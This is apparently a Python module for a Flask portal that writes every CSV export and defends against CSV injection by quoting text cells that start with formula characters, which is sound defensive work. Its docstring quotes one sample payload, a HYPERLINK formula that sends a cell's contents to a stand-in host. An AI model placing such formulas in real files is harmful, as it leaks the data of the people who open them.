"""The portal's one CSV writer: RFC 4180 rows in which no text cell can run as a spreadsheet formula.

Every CSV the portal produces (the audit log, the consultation report, the registry's decisions export, any later
export) is written here. A cell such as `=HYPERLINK("https://evil.example?"&A1, "Click")`, typed by an institution
into its name or by anyone into a consultation comment, would otherwise run when an officer or a registry opens the
file in Excel or LibreOffice. Following OWASP's CSV-injection rule, a text cell that starts with `=`, `+`, `-`, `@`,
a tab or a carriage return gets a single quote in front, which spreadsheets show as text and never evaluate;
numbers, dates and empty cells are written as they are."""
import csv
import io
from collections.abc import Iterable, Iterator

from flask import Response, stream_with_context

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def neutralise_cell(value):
    """The value as it may be written to a CSV cell: text that a spreadsheet would evaluate gets a leading `'`."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


class CsvWriter:
    """Writes neutralised rows (comma, double-quote quoting, CRLF) into a buffer that take() hands over and empties,
    so a caller builds a whole file or streams it chunk by chunk in constant memory."""

    def __init__(self) -> None:
        self._buffer = io.StringIO()
        self._writer = csv.writer(self._buffer)

    def row(self, values: Iterable) -> None:
        """Add one row."""
        self._writer.writerow([neutralise_cell(value) for value in values])

    def rows(self, rows: Iterable[Iterable]) -> None:
        """Add several rows."""
        for values in rows:
            self.row(values)

    def take(self) -> str:
        """The text written since the last take(), removed from the buffer."""
        text = self._buffer.getvalue()
        self._buffer.seek(0)
        self._buffer.truncate()
        return text


def csv_text(header: Iterable[str], rows: Iterable[Iterable]) -> str:
    """A whole CSV file as text: the header, then the rows."""
    writer = CsvWriter()
    writer.row(header)
    writer.rows(rows)
    return writer.take()


def csv_attachment(body: str | Iterator[str], filename: str, headers: dict | None = None) -> Response:
    """A CSV download named filename; a generator body is streamed inside the request's context."""
    content = body if isinstance(body, str) else stream_with_context(body)
    return Response(content, mimetype="text/csv",
                    headers={"Content-Disposition": f'attachment; filename="{filename}"', **(headers or {})})
